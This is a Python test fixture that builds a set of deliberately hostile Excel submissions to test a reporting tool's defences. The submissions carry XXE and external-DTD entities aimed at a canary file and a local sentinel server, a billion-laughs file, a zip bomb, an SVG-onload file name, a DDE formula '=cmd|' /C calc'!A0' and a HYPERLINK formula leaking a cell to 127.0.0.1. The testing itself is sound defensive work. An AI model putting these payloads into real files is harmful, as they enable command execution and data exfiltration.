"""A small hostile cycle, built once per test session and shared by the hostile, fault and
real-client tests.

The submissions folder holds:

- ``MEX-2025.xlsx`` (Spanish): initiatives whose every text field carries markup, code, template
  syntax, formula-like text and addresses of the canary file and the sentinel server; its sheet
  and core properties also carry XInclude elements pointing at both;
- ``TTO-2025.xlsx`` (English): personal data in free text (masked in public outputs), and
  secrets in a comment, hidden and very hidden sheets, a hidden column and document properties
  (never read); one row with live formulas (left out);
- hostile files: external entities to the canary and the sentinel, entity expansion, an
  external DTD, a zip bomb, a password-protected file, and a broken file with a hostile name;
- ``PER-2025.xlsx`` and ``COL-2025.xlsx`` (Spanish): personal data planted everywhere a focal
  point could put it, and a contact published with consent (:mod:`tests.export.canaries`).

:func:`hostile_build` builds it into a fresh output folder while the sentinel listens, and
returns where everything is. It is cached, so the whole session pays for one build (rendered in
parallel, :data:`tests.support.builds.WORKERS` outputs at a time); the tests that must change
its outputs work on a copy.
"""

from __future__ import annotations

import atexit
import datetime as dt
import functools
import logging
import shutil
import tempfile
from dataclasses import dataclass
from pathlib import Path

from openpyxl import Workbook

from systematise.build import BuildResult, build
from systematise.config import PathSettings, ReportSettings, Settings
from systematise.schema.models import Initiative
from systematise.template import layout
from systematise.template.archive import workbook_bytes
from tests.export.canaries import write_canary_workbooks
from tests.hostile import files
from tests.hostile.files import Targets
from tests.hostile.traps import Canary, Sentinel, make_canary
from tests.support.builds import WORKERS

ROOT = Path(__file__).resolve().parents[2]
PUBLICATION_DATE = dt.date(2025, 12, 15)

#: Secrets hidden where the reader must never look, and personal data in the header.
SECRETS = {
    "comment": "comentario.secreto@example.net",
    "hidden_sheet": "hoja.oculta@example.net",
    "very_hidden_sheet": "muy.oculta@example.net",
    "hidden_column": "columna.oculta@example.net",
    "creator": "Autora Secreta Ejemplar",
    "description": "propiedad.secreta@example.net",
    "custom": "propiedad.personal@example.net",
}
FOCAL_POINT = {"name": "Focalina Privada Ejemplar", "email": "focalina.privada@example.net"}
#: Personal data typed into free text: masked in every public output.
PERSONAL_IN_TEXT = {"email": "persona.contacto@example.net", "phone": "+52 55 8765 4321"}

HOSTILE_FILE_NAME = "<svg onload=alert(1)> ‮xslx.exe.xlsx"

_PADDING = (
    " Texto de relleno para que el campo tenga la extensión mínima que exige la plantilla "
    "y la fila se publique con el contenido hostil a la vista."
)


def _length_bounds(node: object) -> tuple[int, int] | None:
    """(minLength, maxLength) found in a JSON-Schema node, or None."""
    if isinstance(node, dict):
        if "maxLength" in node:
            return int(node.get("minLength", 0)), int(node["maxLength"])
        node = list(node.values())
    if isinstance(node, list):
        for item in node:
            found = _length_bounds(item)
            if found:
                return found
    return None


#: (minimum, maximum) length of each text field, from the contract.
BOUNDS = {
    key: bounds
    for key, node in Initiative.model_json_schema()["properties"].items()
    if (bounds := _length_bounds(node)) is not None
}


@dataclass(frozen=True)
class HostileBuild:
    submissions: Path
    output: Path
    settings: Settings
    result: BuildResult
    canary: Canary
    requests: tuple[str, ...]
    texts: tuple[str, ...]
    #: Everything the build logged, at every level, its forked children's records included.
    log: str


def settings_for(workdir: Path) -> Settings:
    return Settings(
        report=ReportSettings(publication_date=PUBLICATION_DATE),
        paths=PathSettings(content=ROOT / "content", translations=workdir / "translations"),
    )


def _hostile_rows(texts: list[str]) -> list[dict[str, object]]:
    """Rows spreading every text over every text field (the title and a few others padded)."""
    rows: list[dict[str, object]] = []
    fields = [key for key in files.TEXT_FIELDS if key not in ("sdg_targets", "contact_name")]
    for index in range(4):
        row: dict[str, object] = {}
        for offset, key in enumerate(fields):
            text = texts[(index + offset) % len(texts)]
            value = f"Iniciativa {index + 1}: {text}" if key == "title" else text
            least, most = BOUNDS.get(key, (0, 5000))
            while len(value) < least:
                value += _PADDING
            row[key] = value[:most]
        rows.append(row)
    rows[0]["acronym"] = "<b>"  # short fields too
    rows[1]["title"] = "+52 =1+1 @SUM(A1) -cmd Registro con prefijos de fórmula" + _PADDING
    return rows


def _mexico(targets: Targets) -> bytes:
    texts = files.hostile_texts(targets)
    workbook = files.workbook_with_rows(_hostile_rows(texts))
    sheet = files.initiatives_sheet(workbook)
    # Formula text typed as text (a string cell starting with "="): published as text.
    cell = sheet.cell(row=layout.FIRST_DATA_ROW + 2, column=files.column_of(sheet, "results"))
    cell.value = '=HYPERLINK("http://127.0.0.1:9/?leak="&B3,"Ver")'
    cell.data_type = "s"
    data = workbook_bytes(workbook)
    return files.rewrite(
        data,
        {
            files.INITIATIVES_ENTRY: lambda old: files.poison_xml(old, "xinclude", targets),
            "docProps/core.xml": lambda old: files.poison_xml(old, "xinclude", targets),
        },
    )


def _trinidad() -> bytes:
    header = files.header_with(
        country="TTO",
        submitting_institution="Ministry of National Security",
        focal_point_name=FOCAL_POINT["name"],
        focal_point_email=FOCAL_POINT["email"],
        submission_language="en",
    )
    description = (
        "The registration office answers questions; write to "
        f"{PERSONAL_IN_TEXT['email']} or call {PERSONAL_IN_TEXT['phone']} for an appointment. "
        "The programme registers migrants and gives them a one-year work card."
    )
    rows: list[dict[str, object]] = [
        {
            "title": "Migrant Registration Framework",
            "summary": "A registration exercise giving migrants a one-year work card and access.",
            "description": description,
        },
        {"title": "Row with live formulas that must be left out"},
    ]
    workbook: Workbook = files.workbook_with_rows(rows, lang="en", header=header)
    files.hide_personal_data(workbook, SECRETS)
    sheet = files.initiatives_sheet(workbook)
    files.write_formula(sheet, layout.FIRST_DATA_ROW + 1, "summary", "=cmd|' /C calc'!A0")
    files.write_formula(sheet, layout.FIRST_DATA_ROW + 1, "website", '=HYPERLINK("file:///")')
    return workbook_bytes(workbook)


def write_submissions(folder: Path, targets: Targets) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "MEX-2025.xlsx").write_bytes(_mexico(targets))
    (folder / "TTO-2025.xlsx").write_bytes(_trinidad())
    hostile = {
        "xxe-canary.xlsx": files.xml_attack_workbook("xxe_file", "sheet", targets),
        "xxe-sentinel.xlsx": files.xml_attack_workbook("xxe_http", "sharedstrings", targets),
        "laughs.xlsx": files.xml_attack_workbook("billion_laughs", "workbook", targets),
        "dtd.xlsx": files.xml_attack_workbook("external_dtd", "core", targets),
        "bomb.xlsx": files.zip_bomb(),
        "password.xlsx": files.compound_file("EncryptionInfo", "EncryptedPackage"),
        HOSTILE_FILE_NAME: b"PK\x03\x04 not a workbook",
    }
    for name, data in hostile.items():
        (folder / name).write_bytes(data)
    write_canary_workbooks(folder)


#: Files of the cycle that must be left out whole, each with one error.
REJECTED_FILES = (
    "xxe-canary.xlsx",
    "xxe-sentinel.xlsx",
    "laughs.xlsx",
    "dtd.xlsx",
    "bomb.xlsx",
    "password.xlsx",
    HOSTILE_FILE_NAME,
)


def _workdir() -> Path:
    folder = Path(tempfile.mkdtemp(prefix="systematise-hostile-"))
    atexit.register(shutil.rmtree, folder, True)
    return folder


@functools.cache
def hostile_inputs() -> tuple[Path, Canary]:
    """The submissions folder of the hostile cycle, and the canary it points at.

    The sentinel URL written into the inputs is fixed here; :func:`hostile_build` listens on it.
    """
    workdir = _workdir()
    canary = make_canary(workdir)
    return workdir / "submissions", canary


@functools.cache
def hostile_build() -> HostileBuild:
    """The hostile cycle built once (cached for the session) while the sentinel listens."""
    submissions, canary = hostile_inputs()
    log = submissions.parent / "build.log"
    # A file, appended to: the records of the forked children (parsing, rendering) reach it too.
    handler = logging.FileHandler(log, encoding="utf-8")
    handler.setLevel(logging.DEBUG)
    logger = logging.getLogger("systematise")
    level = logger.level
    logger.addHandler(handler)
    logger.setLevel(logging.DEBUG)
    sentinel = Sentinel(lifetime=300).start()
    try:
        targets = Targets(canary.url, sentinel.url)
        write_submissions(submissions, targets)
        output = submissions.parent / "output"
        settings = settings_for(submissions.parent)
        result = build([submissions], settings, output, strict=False, workers=WORKERS)
    finally:
        sentinel.stop()
        logger.removeHandler(handler)
        logger.setLevel(level)
        handler.close()
    return HostileBuild(
        submissions,
        output,
        settings,
        result,
        canary,
        tuple(sentinel.requests),
        tuple(files.hostile_texts(targets)),
        log.read_text(encoding="utf-8"),
    )


def build_again(output: Path) -> BuildResult:
    """The same submissions built again into ``output`` (nothing listens this time)."""
    cycle = hostile_build()
    return build([cycle.submissions], cycle.settings, output, strict=False)
